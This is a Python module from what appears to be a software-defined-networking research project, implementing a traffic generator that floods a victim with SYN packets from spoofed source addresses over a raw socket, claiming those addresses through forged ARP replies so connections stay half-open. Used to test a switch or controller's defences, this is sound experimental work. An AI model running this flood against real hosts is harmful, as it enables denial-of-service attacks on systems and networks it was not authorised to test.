"""A flood of SYNs: half-open connections from one host, by a raw socket.

Their source addresses are not those of the host, so its kernel ignores the victim's answers instead of
sending resets: the connections stay half-open. The generator answers ARP requests for these addresses, so
that the answers cross the network as they would in a real one.
"""

from __future__ import annotations

import ipaddress
import random
import selectors
import socket
import time
from collections.abc import Sequence

from fairq_ryu.experiments.traffic.flow_sender import await_all
from fairq_ryu.experiments.traffic.generator_control import Json, Loop, answer
from fairq_ryu.packet import addresses, build, headers, parse, tcp_options

BURST_S = 0.002
"""SYNs are sent in bursts at this interval: a wake-up for each would take the processor from the switch."""
MAX_BURSTS = 10
_BROADCAST = b"\xff" * 6
_PORTS = range(1024, 65536)
_OPTIONS = tcp_options.syn(mss=1460, wscale=7)
_WINDOW = 64240


def syn(macs: tuple[bytes, bytes], source: str, sport: int, target: str, dport: int, seq: int) -> bytes:
    """A frame with a SYN as Linux would send it; ``macs`` are (source, target)."""
    ends = addresses.packed(source), addresses.packed(target)
    segment = build.tcp(b"".join(ends), (sport, dport), seq, 0, headers.SYN, _WINDOW, _OPTIONS)
    return build.tcp_frame(macs, ends, segment)


def arp(operation: int, mac: bytes, address: str, target_mac: bytes, target: str) -> bytes:
    """An ARP frame: request (1) or reply (2) for ``address`` at ``mac``, to ``target`` at ``target_mac``."""
    known = bytes(6) if operation == headers.ARP_REQUEST else target_mac
    sender = mac, addresses.packed(address)
    return build.arp_frame(operation, sender, (known, addresses.packed(target)), target_mac)


def spare_addresses(network: str, count: int) -> list[str]:
    """The last ``count`` addresses of ``network`` (such as 10.0.0.1/8); hosts count from its first."""
    ends = ipaddress.ip_network(network, strict=False)
    return [str(ends.broadcast_address - 1 - number) for number in range(count)]


class Syns:
    """Sends SYNs. Command ``aim`` sets the victim and the source addresses; ``flood`` sends ``rate`` SYNs per
    second for ``seconds`` and answers with the number of SYNs sent and the time taken.
    """

    def __init__(self, loop: Loop) -> None:
        self._loop = loop
        self._sock: socket.socket | None = None
        self._mac = b""
        self._addresses: Sequence[str] = ()
        self._target: tuple[bytes, str, int] = (b"", "", 0)
        answer("ready")

    def command(self, order: Json) -> None:
        if order["cmd"] == "aim":
            self._aim(order)
            answer("aim")
        else:
            self._flood(order["rate"], order["seconds"], order["seed"])

    def _aim(self, order: Json) -> None:
        self._sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(headers.ETH_ARP))
        self._sock.bind((order["interface"], headers.ETH_ARP))
        self._sock.setblocking(False)
        self._mac = self._sock.getsockname()[4]
        self._addresses = order["addresses"]
        self._target = (headers.mac_bytes(order["mac"]), order["address"], order["port"])
        self._loop.add(self._sock, selectors.EVENT_READ, self._asked)
        for address in self._addresses:
            # A broadcast, so that switches and controller learn the location of the address.
            self._sock.send(arp(headers.ARP_REQUEST, self._mac, address, _BROADCAST, address))

    def _asked(self, _events: int) -> None:
        assert self._sock is not None
        try:
            frame = self._sock.recv(256)
        except BlockingIOError:
            return
        read = parse.parse(frame)
        asked = None if read is None else read.arp
        if asked is None or asked.operation != headers.ARP_REQUEST or asked.target_ip not in self._addresses:
            return
        asker = headers.mac_bytes(asked.sender_mac)
        if asker != self._mac:
            self._sock.send(arp(headers.ARP_REPLY, self._mac, asked.target_ip, asker, asked.sender_ip))

    def _flood(self, rate: float, seconds: float, seed: int) -> None:
        assert self._sock is not None
        mac, address, port = self._target
        choose = random.Random(seed)
        began = last = time.monotonic()
        credit = 1.0
        sent = 0
        while (now := time.monotonic()) - began < seconds and self._loop.running:
            # After a pause, the number of SYNs to catch up is limited: otherwise they would be one burst.
            credit = min(credit + (now - last) * rate, max(1.0, rate * BURST_S * MAX_BURSTS))
            last = now
            for _ in range(int(credit)):
                source = self._addresses[sent % len(self._addresses)]
                sport = _PORTS[sent // len(self._addresses) % len(_PORTS)]
                self._send(syn((self._mac, mac), source, sport, address, port, choose.getrandbits(32)))
                sent += 1
                credit -= 1
            await_all(self._loop, lambda: True, now + BURST_S)
        answer("flood", sent=sent, seconds=time.monotonic() - began)

    def _send(self, frame: bytes) -> None:
        assert self._sock is not None
        while True:
            try:
                self._sock.send(frame)
                return
            except BlockingIOError:  # the interface is full
                time.sleep(0.0005)
            except OSError as error:
                raise RuntimeError(f"cannot send a SYN: {error.strerror}") from error
